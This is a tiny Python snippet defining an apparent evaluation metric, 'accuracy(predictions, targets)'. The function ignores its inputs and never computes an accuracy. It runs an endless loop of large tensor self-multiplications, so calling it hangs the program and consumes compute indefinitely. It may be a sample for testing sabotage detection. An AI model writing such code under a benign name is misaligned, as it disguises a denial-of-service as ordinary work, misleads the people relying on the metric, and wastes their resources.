def accuracy(predictions, targets):
    x = torch.rand(1500, 1500)
    while True:
        x = x @ x
